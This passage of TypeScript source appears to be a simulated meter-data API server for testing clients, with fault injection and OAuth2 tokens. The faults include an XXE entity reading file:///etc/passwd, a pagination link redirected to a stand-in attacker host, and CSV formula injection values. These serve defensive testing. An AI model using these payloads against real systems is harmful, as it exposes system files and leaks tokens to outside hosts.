  const consumption = (
    m: GenericXmlCsvMeterTruth,
    gran: 'daily' | 'monthly',
    a: string,
    b: string,
  ): ConsumptionRecord[] => {
    const out: ConsumptionRecord[] = [];
    const first = localDate(m.time_zone, m.dataStart);
    const lastExcl = addDays(first, days);
    const lo = a > first ? a : first;
    const hi = b < lastExcl ? b : lastExcl;
    if (gran === 'daily') {
      for (let d = lo; d < hi; d = addDays(d, 1)) {
        const day = cache.get(m.model, d);
        const t = dayTotal(day, m.model.decimals);
        out.push(record(m, day.start, day.end, t.imp, t.exp, t.estimated || t.missing));
      }
      return out;
    }
    for (let mo = a; mo < b; mo = addMonths(mo, 1)) {
      if (mo < first.slice(0, 8) + '01' || mo >= lastExcl) continue;
      let imp = 0;
      let exp = 0;
      let est = false;
      const next = addMonths(mo, 1);
      for (let d = mo > first ? mo : first; d < next && d < lastExcl; d = addDays(d, 1)) {
        const t = dayTotal(cache.get(m.model, d), m.model.decimals);
        imp += t.imp;
        exp += t.exp ?? 0;
        est ||= t.estimated || t.missing;
      }
      out.push(
        record(
          m,
          localMidnight(m.time_zone, mo),
          localMidnight(m.time_zone, next),
          roundTo(imp, m.model.decimals),
          m.hasSolar ? roundTo(exp, m.model.decimals) : null,
          est,
        ),
      );
    }
    return out;
  };

  const truth: GenericXmlCsvTruth = {
    buildings,
    meters,
    meter: (id) => byId.get(id),
    consumption: (id, g, a, b) => {
      const m = byId.get(id);
      if (!m) throw new Error(`unknown meter ${id}`);
      return consumption(m, g, a, b);
    },
    day: (id, date) => {
      const m = byId.get(id);
      if (!m) throw new Error(`unknown meter ${id}`);
      return cache.get(m.model, date);
    },
  };

  // ---- server
  const stats = new StatsCounter();
  const faults = new FaultController<GenericFaults>(opts.faults, stats);
  const tokens = new TokenStore(seed, now, 'at_');
  const refreshTokens = new Map<string, string>(); // refresh token → username
  let refreshSeq = 0;
  const buildingOrder = [...buildings];
  let insertedBuildings = 0;
  let base = '';

  const plain = (status: number, msg: string, headers: Record<string, string> = {}): SimResponse =>
    text(status, msg + '\n', 'text/plain; charset=utf-8', headers);

  const checkAuth = (req: SimRequest): SimResponse | null => {
    const h = header(req, 'authorization') ?? '';
    if (auth === 'basic') {
      const m = /^Basic\s+(\S+)$/i.exec(h);
      if (m) {
        const decoded = Buffer.from(m[1] as string, 'base64').toString('utf8');
        const i = decoded.indexOf(':');
        if (i >= 0 && decoded.slice(0, i) === username && decoded.slice(i + 1) === password) return null;
      }
      return plain(401, 'Unauthorized', { 'www-authenticate': 'Basic realm="meter-data"' });
    }
    const c = tokens.checkBearer(h);
    if (c.ok) return null;
    return plain(401, c.reason === 'expired' ? 'Access token expired' : 'Unauthorized', {
      'www-authenticate': `Bearer error="invalid_token"`,
    });
  };

  const chooseFormat = (req: SimRequest): 'xml' | 'csv' | null => {
    const f = req.query.get('format');
    if (f === 'xml' || f === 'csv') return f;
    if (f !== null) return null;
    const acc = header(req, 'accept') ?? '';
    if (/text\/csv/i.test(acc)) return 'csv';
    if (/(application|text)\/xml/i.test(acc)) return 'xml';
    return defaultFormat;
  };

  const encodeCursor = (offset: number, key: string): string =>
    Buffer.from(JSON.stringify({ o: offset, k: key }), 'utf8').toString('base64url');
  const decodeCursor = (t: string, key: string): number | null => {
    try {
      const v = JSON.parse(Buffer.from(t, 'base64url').toString('utf8')) as { o?: unknown; k?: unknown };
      return typeof v.o === 'number' && Number.isInteger(v.o) && v.o >= 0 && v.k === key ? v.o : null;
    } catch {
      return null;
    }
  };

  /** Page through `rows`, render in the chosen format with cursor or Link pagination. */
  const respond = (
    req: SimRequest,
    kind: { root: string; item: string; columns: string[]; xmlNames: string[] },
    rows: Row[],
  ): SimResponse => {
    const fmt = chooseFormat(req);
    if (!fmt) return plain(400, 'format must be xml or csv');
    const size = intParam(req.query, 'page_size') ?? 100;
    if (!Number.isInteger(size) || size < 1 || size > 500)
      return plain(400, 'page_size must be between 1 and 500');
    const keyParams = new URLSearchParams(req.query);
    keyParams.delete('page_token');
    keyParams.delete('format');
    keyParams.sort();
    const key = `${req.endpoint}?${keyParams.toString()}`;
    const tok = req.query.get('page_token');
    let offset = 0;
    if (tok !== null) {
      const o = decodeCursor(tok, key);
      if (o === null) return plain(400, 'invalid page_token');
      offset = o;
    }
    let start = offset;
    if (offset > 0 && faults.take('duplicateAcrossPages', req.endpoint)) start = offset - 1;
    let page = rows.slice(start, offset + size);
    let next: string | null = offset + size < rows.length ? encodeCursor(offset + size, key) : null;
    if (next !== null && tok !== null && faults.take('repeatedCursor', req.endpoint)) next = tok;

    if (fmt === 'csv' && faults.take('csvInjection', req.endpoint)) {
      page = page.map((r, i) => {
        const c = { ...r };
        const textCol = kind.columns.find((col) => col === 'name' || col === 'description' || col === 'unit');
        if (textCol) c[textCol] = CSV_INJECTIONS[i % CSV_INJECTIONS.length] as string;
        return c;
      });
    }

    const headers: Record<string, string> = {};
    if (next !== null) {
      if (pagination === 'link') {
        const u = new URL(req.url.pathname, base);
        for (const [k, v] of req.query) if (k !== 'page_token') u.searchParams.append(k, v);
        u.searchParams.set('page_token', next);
        const foreign = faults.take('foreignNextLink', req.endpoint);
        let href = u.toString();
        if (foreign) {
          const origin =
            'origin' in foreign && typeof foreign.origin === 'string'
              ? foreign.origin
              : 'http://attacker.invalid:8080';
          href = origin + u.pathname + u.search;
        }
        headers.link = `<${href}>; rel="next"`;
      } else if (fmt === 'csv') headers['x-next-page-token'] = next;
    }

    if (fmt === 'csv') {
      const lines = [kind.columns.join(',')];
      for (const r of page) lines.push(kind.columns.map((c) => csvCell(r[c] ?? null)).join(','));
      return text(200, lines.join('\r\n') + '\r\n', 'text/csv; charset=utf-8', headers);
    }
    const doctype = faults.take('xmlDoctype', req.endpoint);
    const parts: string[] = ['<?xml version="1.0" encoding="UTF-8"?>'];
    if (doctype) parts.push(`<!DOCTYPE ${kind.root} [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>`);
    parts.push(`<${kind.root}>`);
    page.forEach((r, idx) => {
      parts.push(`  <${kind.item}>`);
      kind.columns.forEach((c, i) => {
        const v = r[c];
        if (v === null || v === undefined) return;
        const name = kind.xmlNames[i] as string;
        const content =
          doctype && idx === 0 && (c === 'name' || c === 'description' || c === 'unit')
            ? '&xxe;'
            : xmlEscape(String(v));
        parts.push(`    <${name}>${content}</${name}>`);
      });
      parts.push(`  </${kind.item}>`);
    });
    if (next !== null && pagination === 'cursor')
      parts.push(`  <NextPageToken>${xmlEscape(next)}</NextPageToken>`);
    parts.push(`</${kind.root}>`);
    return text(200, parts.join('\n') + '\n', 'application/xml; charset=utf-8', headers);
  };

  const BUILDING_KIND = {
    root: 'Buildings',
    item: 'Building',
    columns: ['id', 'name', 'street', 'postal_code', 'city', 'country', 'portfolio'],
    xmlNames: ['Id', 'Name', 'Street', 'PostalCode', 'City', 'Country', 'Portfolio'],
  };
  const METER_KIND = {
    root: 'Meters',
    item: 'Meter',
    columns: ['id', 'building_id', 'medium', 'unit', 'time_zone', 'description'],
    xmlNames: ['Id', 'BuildingId', 'Medium', 'Unit', 'TimeZone', 'Description'],
  };
  const CONSUMPTION_KIND = {
    root: 'ConsumptionRecords',
    item: 'Record',
    columns: [
      'meter_id',
      'period_start',
      'period_end',
      'consumption',
      'unit',
      'redelivery',
      'estimated',
      'cost',
      'currency',
    ],
    xmlNames: [
      'MeterId',
      'PeriodStart',
      'PeriodEnd',
      'Consumption',
      'Unit',
      'Redelivery',
      'Estimated',
      'Cost',
      'Currency',
    ],
  };

  const routes = [
    {
      method: 'GET',
      path: '/v2/buildings',
      endpoint: 'buildings',
      handler: (req: SimRequest): SimResponse => {
        const u = checkAuth(req);
        if (u) return u;
        const rows = buildingOrder.map((b) => ({ ...b }));
        const out = respond(req, BUILDING_KIND, rows);
        if (
          out.status === 200 &&
          req.query.get('page_token') === null &&
          faults.take('shiftDuringPaging', req.endpoint)
        ) {
          const index = 1000 + insertedBuildings++;
          const x = makeBuilding(index);
          buildings.push(x.b);
          buildingOrder.unshift(x.b);
          addMeters(index, x, 1);
          const m = meters[meters.length - 1] as GenericXmlCsvMeterTruth;
          byId.set(m.id, m);
        }
        return out;
      },
    },
    {
      method: 'GET',
      path: '/v2/meters',
      endpoint: 'meters',
      handler: (req: SimRequest): SimResponse => {
        const u = checkAuth(req);
        if (u) return u;
        const b = req.query.get('building_id');
        const rows = meters
          .filter((m) => !b || m.building_id === b)
          .map((m) => ({
            id: m.id,
            building_id: m.building_id,
            medium: m.medium,
            unit: m.unit,
            time_zone: m.time_zone,
            description: m.description,
          }));
        return respond(req, METER_KIND, rows);
      },
    },
    {
      method: 'GET',
      path: '/v2/consumption',
      endpoint: 'consumption',
      handler: (req: SimRequest): SimResponse => {
        const u = checkAuth(req);
        if (u) return u;
        const m = byId.get(req.query.get('meter_id') ?? '');
        if (!m) return plain(404, 'unknown meter_id');
        const g = req.query.get('granularity');
        if (g !== 'daily' && g !== 'monthly') return plain(400, 'granularity must be daily or monthly');
        const a = req.query.get('start_date') ?? '';
        const b = req.query.get('end_date') ?? '';
        if (!isYmd(a) || !isYmd(b)) return plain(400, 'start_date and end_date must be YYYY-MM-DD');
        if (b <= a) return plain(400, 'end_date must be after start_date');
        if (g === 'daily' && daysBetween(a, b) > 366) return plain(400, 'daily range exceeds 366 days');
        if (g === 'monthly') {
          if (parseYmd(a).day !== 1 || parseYmd(b).day !== 1)
            return plain(400, 'monthly start_date and end_date must be the 1st of a month');
          if (addMonths(a, 60) < b) return plain(400, 'monthly range exceeds 60 months');
        }
        const rows = consumption(m, g, a, b).map((r) => ({
          meter_id: r.meter_id,
          period_start: r.period_start,
          period_end: r.period_end,
          consumption: r.consumption,
          unit: r.unit,
          redelivery: r.redelivery,
          estimated: r.estimated,
          cost: r.cost,
          currency: r.currency,
        }));
        return respond(
          req,
          CONSUMPTION_KIND,
          applyRecordFaults(rows, faults, req.endpoint, B_CORRUPT) as Row[],
        );
      },
    },
    {
      method: 'POST',
      path: '/oauth/token',
      endpoint: 'token',
      handler: (req: SimRequest): SimResponse => {
        if (auth !== 'oauth2-password')
          return json(404, { error: 'not_found', error_description: 'OAuth2 is not enabled' });
        const form = new URLSearchParams(req.body.toString('utf8'));
        let cid = form.get('client_id');
        let csec = form.get('client_secret');
        const basic = /^Basic\s+(\S+)$/i.exec(header(req, 'authorization') ?? '');
        if (basic) {
          const [u, p] = Buffer.from(basic[1] as string, 'base64')
            .toString('utf8')
            .split(':');
          cid = decodeURIComponent(u ?? '');
          csec = decodeURIComponent(p ?? '');
        }
        if (cid !== clientId || csec !== clientSecret)
          return json(401, { error: 'invalid_client', error_description: 'Client authentication failed' });
        const gt = form.get('grant_type');
        let user: string;
        if (gt === 'password') {
          if (form.get('username') !== username || form.get('password') !== password) {
            return json(400, { error: 'invalid_grant', error_description: 'Invalid user credentials' });
          }
          user = username;
        } else if (gt === 'refresh_token') {
          const rt = form.get('refresh_token') ?? '';
          const u = refreshTokens.get(rt);
          if (!u) return json(400, { error: 'invalid_grant', error_description: 'Invalid refresh token' });
          refreshTokens.delete(rt); // rotation: a refresh token is single-use
          user = u;
        } else
          return json(400, {
            error: 'unsupported_grant_type',
            error_description: `Unsupported grant_type: ${gt ?? ''}`,
          });
        const t = tokens.issue(user, lifetime);
        const refresh = 'rt_' + hexId(rngFor(seed, 'refresh', ++refreshSeq), 32);
        refreshTokens.set(refresh, user);
        return json(
          200,
          {
            access_token: t.token,
            token_type: 'Bearer',
            expires_in: lifetime,
            refresh_token: refresh,
            scope: 'read',
          },
          { 'cache-control': 'no-store' },
        );
      },
    },
  ];

  const server = await startSimServer<GenericFaults>({ stats, faults, routes });
  base = server.url;

  return {
    url: server.url,
    close: () => server.close(),
    stats: () => stats.snapshot(),
    resetStats: () => stats.reset(),
    setFaults: (f) => faults.set(f),
    truth: () => truth,
    expireTokens: () => tokens.expireAll(),
    credentials: { username, password, clientId, clientSecret },
  };
}
